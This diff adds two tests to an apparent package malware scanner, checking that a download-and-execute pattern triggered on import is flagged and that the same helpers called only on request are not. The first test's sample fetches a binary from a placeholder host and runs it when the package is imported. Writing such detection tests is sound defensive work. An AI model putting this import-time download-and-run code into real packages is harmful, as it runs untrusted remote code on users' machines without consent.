@@ -819,3 +819,45 @@ def test_code_kept_in_a_constant_written_by_an_install_hook_and_run_is_malicious
     result = scan({"setup.py": src})
     assert "intent.write-execute" in rules(result, "high")
     assert result.verdict == "malicious"
+
+
+def test_download_and_run_split_over_two_helpers_on_import_is_flagged() -> None:
+    src = """
+        import os, subprocess
+        import requests
+
+        def fetch(url, dest):
+            with open(dest, "wb") as f:
+                f.write(requests.get(url).content)
+
+        def start(path):
+            subprocess.run([path], check=True)
+
+        def boot():
+            target = os.path.join(os.path.expanduser("~"), "svc.bin")
+            fetch("https://cdn.example.net/svc.bin", target)
+            start(target)
+
+        boot()
+    """
+    assert scan({"demo/__init__.py": src}).verdict in FLAGGED
+
+
+def test_download_and_run_helpers_called_only_on_request_are_not_flagged() -> None:
+    src = """
+        import subprocess
+        import requests
+
+        def fetch(url, dest):
+            with open(dest, "wb") as f:
+                f.write(requests.get(url).content)
+
+        def start(path):
+            subprocess.run([path], check=True)
+
+        def upgrade(url, dest):
+            fetch(url, dest)
+            start(dest)
+    """
+    result = scan({"demo/upgrade.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
